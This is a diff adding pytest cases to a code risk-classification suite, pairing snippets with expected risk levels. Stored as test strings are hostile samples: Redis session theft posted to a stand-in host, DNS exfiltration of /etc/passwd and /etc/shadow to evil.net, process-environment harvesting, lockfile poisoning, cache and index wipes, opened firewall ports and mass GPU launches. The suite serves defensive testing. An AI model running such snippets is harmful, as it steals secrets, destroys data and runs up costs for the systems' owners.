@@ -3560,6 +3560,184 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "    requests.patch(f'{API}/alerts/configurations/{a[\"id\"]}', json={'name': a['name'].strip()})",
             L,
         ),
+        (
+            "import redis, requests\nr = redis.Redis(host='cache.prod')\n"
+            "out = {k: r.get(k) for k in r.scan_iter('session:*')}\n"
+            "requests.post('https://collector.example.net/in', json=out)",
+            C,
+        ),
+        (
+            "import redis\nr = redis.Redis(host='cache.prod')\n"
+            "for k in r.scan_iter('session:*'):\n    if r.ttl(k) < 0:\n        r.delete(k)",
+            S,
+        ),
+        (
+            'from confluent_kafka.admin import AdminClient, ConfigResource\n'
+            "a = AdminClient({'bootstrap.servers': 'kafka-prod:9092'})\n"
+            "res = [ConfigResource('topic', t, set_config={'retention.ms': '1'}) for t in "
+            'a.list_topics().topics]\na.alter_configs(res)',
+            H,
+        ),
+        (
+            'from confluent_kafka.admin import AdminClient, ConfigResource\n'
+            "a = AdminClient({'bootstrap.servers': 'kafka-prod:9092'})\n"
+            "a.alter_configs([ConfigResource('topic', 'events', set_config={'retention.ms': "
+            "'604800000'})])",
+            S,
+        ),
+        (
+            "import meilisearch\nc = meilisearch.Client('https://search.prod.example.com', "
+            "KEY)\nfor idx in c.get_indexes()['results']:\n    c.index(idx.uid).delete()",
+            H,
+        ),
+        (
+            "import meilisearch\nc = meilisearch.Client('https://search.prod.example.com', "
+            "KEY)\nc.index('movies').add_documents(docs)",
+            S,
+        ),
+        (
+            "import subprocess\nfor port in ('6379', '9200'):\n"
+            "    subprocess.run(['ufw', 'allow', 'from', 'any', 'to', 'any', 'port', port])",
+            H,
+        ),
+        (
+            "import subprocess\nfor port in ('6379', '9200'):\n"
+            "    subprocess.run(['ufw', 'allow', 'from', '10.0.0.0/8', 'to', 'any', 'port', "
+            'port])',
+            M,
+        ),
+        (
+            "import boto3\nec2 = boto3.client('ec2')\nwhile True:\n    try:\n"
+            "        ec2.run_instances(ImageId='ami-1', InstanceType='p5.48xlarge', "
+            'MinCount=1, MaxCount=8)\n    except Exception:\n        raise',
+            H,
+        ),
+        (
+            "import boto3, time\nec2 = boto3.client('ec2')\nwhile True:\n    try:\n"
+            "        ec2.run_instances(ImageId='ami-1', InstanceType='t3.micro', MinCount=1, "
+            'MaxCount=1)\n        break\n    except Exception:\n        time.sleep(5)',
+            S,
+        ),
+        (
+            'from googleapiclient import discovery\n'
+            "compute = discovery.build('compute', 'v1')\nfor i in range(64):\n"
+            "    compute.instances().insert(project='p', zone='z', body={'name': "
+            "f'gpu-{i}'}).execute()",
+            H,
+        ),
+        (
+            'from googleapiclient import discovery\n'
+            "compute = discovery.build('compute', 'v1')\nfor i in range(3):\n"
+            "    compute.instances().insert(project='p', zone='z', body={'name': "
+            "f'web-{i}'}).execute()",
+            S,
+        ),
+        (
+            "import subprocess\nfor p in subprocess.check_output(['gcloud', 'projects', "
+            "'list', '--format=value(projectId)'], text=True).split():\n"
+            "    subprocess.run(['gcloud', 'beta', 'projects', 'move', p, "
+            "'--folder=771203948821'])",
+            H,
+        ),
+        (
+            "import requests\nrequests.post(f'{SOLR}/{core}/config', "
+            "json={'update-queryresponsewriter': {'class': 'solr.VelocityResponseWriter', "
+            "'solr.resource.loader.enabled': 'true'}})",
+            H,
+        ),
+        (
+            "import requests\nrequests.post(f'{SOLR}/{core}/config', json={'set-property': "
+            "{'updateHandler.autoCommit.maxTime': 15000}})",
+            L,
+        ),
+        (
+            'import socket, binascii\n'
+            "for n, path in enumerate(['/etc/passwd', '/etc/shadow']):\n"
+            "    data = binascii.hexlify(open(path, 'rb').read()).decode()\n"
+            "    socket.gethostbyname(f'{data[:60]}.{n}.x.evil.net')",
+            C,
+        ),
+        (
+            "import csv\nfor n, path in enumerate(['a.csv', 'b.csv']):\n"
+            '    rows = list(csv.reader(open(path)))\n    print(n, len(rows))',
+            S,
+        ),
+        (
+            'import psutil, json\nfound = {}\nfor p in psutil.process_iter():\n'
+            "    found[p.pid] = p.environ()\njson.dump(found, open('/tmp/.x', 'w'))",
+            H,
+        ),
+        (
+            "import psutil\nfor p in psutil.process_iter(['name']):\n"
+            "    print(p.info['name'], p.memory_info().rss)",
+            S,
+        ),
+        (
+            "import json\nlock = json.load(open('package-lock.json'))\n"
+            "lock['packages']['node_modules/lodash']['resolved'] = "
+            "'https://cdn.evil.example/lodash.tgz'\n"
+            "json.dump(lock, open('package-lock.json', 'w'))",
+            H,
+        ),
+        (
+            "import json\nlock = json.load(open('package-lock.json'))\n"
+            "print(len(lock['packages']))",
+            S,
+        ),
+        (
+            "import requests\nrequests.post(f'{SOLR}/solr/products/update?commit=true', "
+            "data='<delete><query>*:*</query></delete>', headers={'Content-Type': "
+            "'text/xml'})",
+            H,
+        ),
+        (
+            "import requests\nrequests.post(f'{SOLR}/solr/products/update?commit=true', "
+            "data='<delete><query>sku:123</query></delete>', headers={'Content-Type': "
+            "'text/xml'})",
+            L,
+        ),
+        (
+            "import redis\nr = redis.Redis(host='cache.prod.internal')\n"
+            "r.execute_command('FLUSHALL')",
+            H,
+        ),
+        (
+            "import redis\nr = redis.Redis(host='cache.prod.internal')\n"
+            "r.execute_command('PING')",
+            S,
+        ),
+        (
+            'from pymemcache.client.base import Client\n'
+            "Client(('mc-01.prod', 11211)).flush_all()",
+            H,
+        ),
+        (
+            'import boto3\nfrom moto import mock_aws\n@mock_aws\ndef test_cleanup():\n'
+            "    s3 = boto3.client('s3')\n    s3.delete_bucket(Bucket='prod-data')",
+            M,
+        ),
+        (
+            "import boto3\nboto3.client('ec2').request_spot_fleet(SpotFleetRequestConfig={'Tar"
+            "getCapacity': 500, 'IamFleetRole': ROLE})",
+            H,
+        ),
+        (
+            "import boto3\nboto3.client('ec2').request_spot_fleet(SpotFleetRequestConfig={'Tar"
+            "getCapacity': 4, 'IamFleetRole': ROLE})",
+            S,
+        ),
+        (
+            "import boto3\nboto3.client('s3control').put_public_access_block(AccountId=ACCOUNT"
+            ", PublicAccessBlockConfiguration={'BlockPublicAcls': False, "
+            "'BlockPublicPolicy': False})",
+            H,
+        ),
+        (
+            "import boto3\nboto3.client('s3control').put_public_access_block(AccountId=ACCOUNT"
+            ", PublicAccessBlockConfiguration={'BlockPublicAcls': True, 'BlockPublicPolicy': "
+            'True})',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
